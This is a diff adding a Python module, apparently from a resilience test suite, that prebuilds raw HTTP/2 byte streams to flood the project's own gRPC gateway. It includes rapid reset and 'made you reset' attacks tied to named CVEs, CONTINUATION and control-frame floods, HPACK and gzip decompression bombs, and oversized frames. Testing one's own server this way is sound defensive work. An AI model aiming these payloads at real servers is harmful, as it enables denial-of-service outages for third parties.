@@ -1,0 +1,126 @@
+"""What each attacker sends: the opening of a connection, and units that are sent on it one after the other, as bytes made beforehand."""
+
+from __future__ import annotations
+
+import gzip
+import struct
+from dataclasses import dataclass
+from functools import cache
+from typing import Callable
+
+from floods import frames as h2
+
+ECHO = "/cairn.bench.v1.BenchService/Echo"
+COUNT = "/cairn.bench.v1.BenchService/Count"
+LOG_IN = "/cairn.auth.v1.SessionService/LogInWithPassword"
+ECHO_BLOCK = h2.request_block(ECHO)
+ECHO_MESSAGE = b"\x0a\x05hello"
+
+
+@dataclass(frozen=True)
+class Attack:
+    """`unit(n)` is the n-th thing sent on a connection; after `units` of them, or when the gateway ends it, the next connection begins."""
+
+    unit: Callable[[int], bytes]
+    units: int
+    opening: Callable[[], bytes] = h2.start
+
+    def blob(self) -> bytes:
+        return b"".join(self.unit(number) for number in range(self.units))
+
+
+def stream_of(number: int) -> int:
+    return 2 * number + 1
+
+
+def header_blocks(block: bytes) -> Callable[[int], bytes]:
+    """A request of this header block, over HEADERS and as many CONTINUATION as it takes."""
+
+    def unit(number: int) -> bytes:
+        pieces = [block[at : at + h2.FRAME_BYTES_MAX] for at in range(0, len(block), h2.FRAME_BYTES_MAX)]
+        out = b""
+        for index, piece in enumerate(pieces):
+            kind = h2.CONTINUATION if index else h2.HEADERS
+            flags = (0 if index else h2.END_STREAM) | (h2.END_HEADERS if index == len(pieces) - 1 else 0)
+            out += h2.frame(kind, flags, stream_of(number), piece)
+        return out
+
+    return unit
+
+
+def echo(number: int, body: bytes = ECHO_MESSAGE, **fields: str) -> bytes:
+    return h2.request(stream_of(number), h2.request_block(ECHO, **fields) if fields else ECHO_BLOCK, body)
+
+
+def open_stream(path: str = ECHO, **fields: str) -> bytes:
+    """The opening of a connection on which stream 1 waits for its body."""
+    return h2.start() + h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.request_block(path, **fields))
+
+
+def hpack_bomb(references: int) -> bytes:
+    """An entry of 4,000 bytes enters the table, which holds 4,096, and is then named again and again, a byte each."""
+    return h2.request_block(ECHO) + h2.indexed_literal("a", b"x" * 3_900) + b"\xbe" * references
+
+
+@cache
+def zeros_in_gzip() -> bytes:
+    return gzip.compress(bytes(8_000_000))[:8_000]
+
+
+def gzip_bomb(path: str) -> Callable[[int], bytes]:
+    bomb = gzip.compress(bytes(4_000_000))
+    block = h2.request_block(path, content_encoding="gzip")
+    assert len(bomb) < 8_192, "the smallest request limit of a public method"
+    return lambda number: h2.request(stream_of(number), block, bomb)
+
+
+ATTACKS: dict[str, Attack] = {
+    # Streams that are opened and cancelled at once (CVE-2023-44487); whole requests, so that the gateway has begun its work.
+    "rapid reset": Attack(lambda n: echo(n) + h2.rst(stream_of(n)), 400),
+    # As many as a connection may, then the next connection: never ended, all the work done.
+    "rapid reset within the limit": Attack(lambda n: echo(n) + h2.rst(stream_of(n)), 190),
+    # The same work, but it is our side that is made to reset (CVE-2025-8671).
+    "made you reset: window overflow": Attack(
+        lambda n: h2.frame(h2.HEADERS, h2.END_HEADERS, stream_of(n), ECHO_BLOCK) + h2.window_update(stream_of(n), 0x7FFFFFFF), 400
+    ),
+    "made you reset: zero increment": Attack(
+        lambda n: h2.frame(h2.HEADERS, h2.END_HEADERS, stream_of(n), ECHO_BLOCK) + h2.window_update(stream_of(n), 0), 10
+    ),
+    "made you reset: DATA after the end": Attack(
+        lambda n: echo(n, delay_ms="0") + h2.frame(h2.DATA, 0, stream_of(n), b"more"), 400
+    ),
+    "made you reset: lying content-length": Attack(lambda n: echo(n, content_length="1000000"), 400),
+    "made you reset: malformed headers": Attack(
+        lambda n: h2.request(stream_of(n), ECHO_BLOCK + h2.literal("Upper", "x"), b""), 400
+    ),
+    "made you reset within the limit": Attack(lambda n: echo(n, content_length="1000000"), 190),
+    "CONTINUATION": Attack(
+        lambda n: h2.frame(h2.CONTINUATION, 0, 1, h2.literal("a", "b")), 4_000, lambda: h2.start() + h2.frame(h2.HEADERS, 0, 1, ECHO_BLOCK)
+    ),
+    "empty CONTINUATION": Attack(
+        lambda n: h2.frame(h2.CONTINUATION, 0, 1), 4_000, lambda: h2.start() + h2.frame(h2.HEADERS, 0, 1, ECHO_BLOCK)
+    ),
+    "HPACK bomb": Attack(header_blocks(hpack_bomb(16_000)), 4),
+    # As large as a list may get before the connection is ended: each is answered 431.
+    "HPACK bomb below the limit": Attack(header_blocks(hpack_bomb(60)), 200),
+    "small HPACK references": Attack(header_blocks(ECHO_BLOCK + h2.indexed_literal("a", "") + b"\xbe" * 7_000), 200),
+    "large header lists": Attack(header_blocks(ECHO_BLOCK + h2.literal("a", "x" * 20_000)), 200),
+    "SETTINGS": Attack(lambda n: h2.settings(initial_window_size=65_535 + n % 2), 4_000),
+    "PING": Attack(lambda n: h2.frame(h2.PING, payload=bytes(8)), 4_000),
+    "empty DATA": Attack(lambda n: h2.frame(h2.DATA, 0, 1), 4_000, open_stream),
+    "DATA of padding": Attack(lambda n: h2.frame(h2.DATA, h2.PADDED, 1, b"\xff" + bytes(255)), 4_000, open_stream),
+    "DATA of one byte": Attack(lambda n: h2.frame(h2.DATA, 0, 1, b"\x00"), 20_000, open_stream),
+    "PRIORITY": Attack(lambda n: h2.frame(h2.PRIORITY, 0, 1, struct.pack(">IB", 0, 1)), 4_000),
+    "WINDOW_UPDATE": Attack(lambda n: h2.window_update(0, 1), 8_000),
+    "unknown frames": Attack(lambda n: h2.frame(0xFA, 0, 1, b"xx"), 4_000),
+    "oversized frames": Attack(lambda n: struct.pack(">I", h2.FRAME_BYTES_MAX + 1)[1:] + b"\x00\x00" + struct.pack(">I", 1), 4),
+    "too many streams": Attack(lambda n: h2.frame(h2.HEADERS, h2.END_HEADERS, stream_of(n), ECHO_BLOCK), 400),
+    "gzip bombs": Attack(gzip_bomb(LOG_IN), 100),
+    # Refused from their headers (nobody has logged in), with the body still coming.
+    "refused with the body still coming": Attack(
+        lambda n: h2.frame(h2.DATA, 0, 1, bytes(16_384)), 60, lambda: open_stream("/cairn.auth.v1.AccountService/WhoAmI", content_length="100000000")
+    ),
+    "requests of nobody": Attack(lambda n: h2.request(stream_of(n), h2.request_block("/x"), b""), 250),
+    "connections": Attack(lambda n: b"", 1),
+    "whole requests": Attack(echo, 250),
+}
